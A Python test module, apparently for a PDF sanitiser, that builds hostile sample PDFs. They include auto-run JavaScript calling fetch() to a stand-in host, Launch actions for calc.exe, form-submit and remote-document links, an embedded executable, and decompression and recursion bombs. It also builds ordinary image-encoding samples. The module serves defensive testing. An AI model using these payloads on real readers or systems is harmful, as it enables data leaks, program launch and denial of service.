"""PDF of a sealed link: what another program would act on, and what is made to do harm.

The eleven of `tests.imaging.hostile` that are none are opened besides.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator

from PIL import Image
from PIL.TiffImagePlugin import TiffImageFile

from tests.imaging.hostile import FONT, WORDS, paged, plain_pdf, stream, written
from tests.imaging.pictures import drawing, saved, zeros

ELSEWHERE = b"http://192.0.2.77:8481/"


def active() -> Iterator[tuple[str, bytes]]:
    """Each shows its word, and does nothing else."""
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\); fetch\\('%b'\\)) >>" % ELSEWHERE
    uri = b"<< /S /URI /URI (%b) >>" % ELSEWHERE
    launch = b"<< /S /Launch /F (calc.exe) >>"
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A %b >>]"
    submit = b"<< /S /SubmitForm /F << /FS /URL /F (%b) >> >>" % ELSEWHERE
    remote = b"<< /S /GoToR /F << /FS /URL /F (%b) >> /D [0 /Fit] >>" % ELSEWHERE
    names = b"/Names << /JavaScript << /Names [(a) %b] >> >>" % script
    attached = (
        b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) "
        b"/EF << /F 6 0 R >> >>] >> >>"
    )
    yield "a script when it opens", plain_pdf(b"/OpenAction " + script)
    yield "a script by name", plain_pdf(names)
    yield "a script of its page", plain_pdf(b"", b"/AA << /O %b >>" % script)
    yield "a link to an address", plain_pdf(b"", link % uri)
    yield "a link that is a script", plain_pdf(b"", link % script)
    yield "a link to a program", plain_pdf(b"", link % launch)
    yield "a link that sends a form", plain_pdf(b"", link % submit)
    yield "a link to another document", plain_pdf(b"", link % remote)
    yield "a file in it", plain_pdf(attached, b"", stream(b"MZ\x90"))
    form = b"/AcroForm << /XFA 6 0 R /Fields [] >>"
    xfa = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
    yield "a form with programs", plain_pdf(form, b"", stream(xfa))


def unsaid() -> Iterator[tuple[str, bytes]]:
    """The same, of which nothing tells the page."""
    uri = b"<< /S /URI /URI (%b) >>" % ELSEWHERE
    yield "an address when it opens", plain_pdf(b"/OpenAction " + uri)
    yield "a program when it opens", plain_pdf(b"/OpenAction << /S /Launch /F (calc.exe) >>")
    far = b"/OpenAction << /S /GoToR /F << /FS /URL /F (%b) >> /D [0 /Fit] >>" % ELSEWHERE
    yield "another document when it opens", plain_pdf(far)


def _image(width: int, height: int, said: bytes, content: bytes) -> bytes:
    """A page with a word, and this picture behind it."""
    shown = b"q 300 0 0 200 0 0 cm /I Do Q " + WORDS
    xobject = b"/Type /XObject /Subtype /Image /Width %d /Height %d %b" % (width, height, said)
    return paged(
        b"/Contents 4 0 R /Resources << /Font << /F 5 0 R >> /XObject << /I 6 0 R >> >>",
        stream(shown),
        FONT,
        stream(content, xobject),
    )


def pictured() -> Iterator[tuple[str, bytes]]:
    """With a picture of each form that scanners write; the drawing fills the page."""
    rgb = b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter "
    cmyk = b"/ColorSpace /DeviceCMYK /BitsPerComponent 8 /Decode [1 0 1 0 1 0 1 0] /Filter "
    flat = zlib.compress(drawing().tobytes())
    yield "packed", _image(60, 40, rgb + b"/FlateDecode", flat)
    yield "JPEG", _image(60, 40, rgb + b"/DCTDecode", saved(drawing(), "JPEG", quality=95))
    dark = saved(drawing().convert("CMYK"), "JPEG", quality=95)
    yield "JPEG in CMYK", _image(60, 40, cmyk + b"/DCTDecode", dark)
    yield "JPEG 2000", _image(60, 40, rgb + b"/JPXDecode", saved(drawing(), "JPEG2000"))


def fax() -> bytes:
    """As a fax machine packs it: black at the bottom left, white elsewhere."""
    picture = drawing().convert("L").point(lambda value: 0 if value < 75 else 255).convert("1")
    made = io.BytesIO()
    picture.save(made, "TIFF", compression="group4")
    with Image.open(made) as read:
        assert isinstance(read, TiffImageFile)
        (at,) = read.tag_v2[273]
        (length,) = read.tag_v2[279]
        light = read.tag_v2[262] == 1
    said = b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode "
    said += b"/DecodeParms << /K -1 /Columns 60 /Rows 40 /BlackIs1 %b >>"
    content = made.getvalue()[at : at + length]
    return _image(60, 40, said % (b"true" if light else b"false"), content)


def masked() -> bytes:
    """A red page under a mask of lightness: it shows at the left alone."""
    mask = b"<< /Type /Mask /S /Luminosity /G 6 0 R >>"
    state = b"/ExtGState << /M << /SMask %b >> >>" % mask
    group = b"/Type /XObject /Subtype /Form /BBox [0 0 300 200] "
    group += b"/Group << /S /Transparency /CS /DeviceGray >>"
    return paged(
        b"/Contents 4 0 R /Resources << /Font << /F 5 0 R >> %b >>" % state,
        stream(b"/M gs 1 0 0 rg 0 0 300 200 re f"),
        FONT,
        stream(b"0 g 0 0 300 200 re f 1 g 0 0 150 200 re f", group),
    )


def incomplete() -> Iterator[tuple[str, bytes]]:
    """Each shows its word, and says that something is missing."""
    grey = b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter "
    yield "a giant picture", _image(60_000, 60_000, grey + b"/FlateDecode", zeros(64))
    yield "a JPEG 2000 of noise", _image(60, 40, grey + b"/JPXDecode", b"\xff\x4f\xff\x51" * 40)
    size = struct.pack(">HIIIIIIIIH", 0, 1 << 31, 1 << 31, 0, 0, 1 << 31, 1 << 31, 0, 0, 1)
    giant = b"\xff\x4f\xff\x51" + struct.pack(">H", len(size) + 5) + size + b"\x0f\1\1"
    yield "a giant JPEG 2000", _image(60, 40, grey + b"/JPXDecode", giant)
    yield "a JBIG2 of noise", _image(60, 40, grey + b"/JBIG2Decode", bytes(range(200)))
    yield "a JPEG of noise", _image(60, 40, grey + b"/DCTDecode", b"\xff\xd8" + bytes(200))
    yield "a picture of no known form", _image(60, 40, grey + b"/NoDecode", bytes(2400))
    ring = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 6 0 R >> >>"
    yield (
        "a form that draws itself",
        paged(
            b"/Contents 4 0 R /Resources << /Font << /F 5 0 R >> /XObject << /I 6 0 R >> >>",
            stream(b"/I Do " + WORDS),
            FONT,
            stream(b"/I Do", ring),
        ),
    )


def endless() -> Iterator[tuple[str, bytes]]:
    """Nothing of them is shown."""
    twice = zlib.compress(zeros(640))
    packed = b"/Filter [/FlateDecode /FlateDecode]"
    words = b"/Resources << /Font << /F 5 0 R >> >>"
    many = zlib.compress(b"0 0 m 9 9 l S " * 6_000_000)
    yield (
        "a page that unpacks to 640 MiB",
        paged(b"/Contents 4 0 R " + words, stream(twice, packed), FONT),
    )
    yield (
        "a page of twelve million strokes",
        paged(b"/Contents 4 0 R " + words, stream(many, b"/Filter /FlateDecode"), FONT),
    )
    yield "a giant page", plain_pdf().replace(b"300 200", b"3000000000 2000000000")
    yield "a page in a giant unit", plain_pdf(b"", b"/UserUnit 1000000")
    ring = plain_pdf().replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % plain_pdf().index(b"xref"))
    yield (
        "a table that goes on with itself, and no page",
        ring.replace(b"/Kids [3 0 R]", b"/Kids [9 0 R]"),
    )
    yield "a root that is its own page", written(b"<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>")
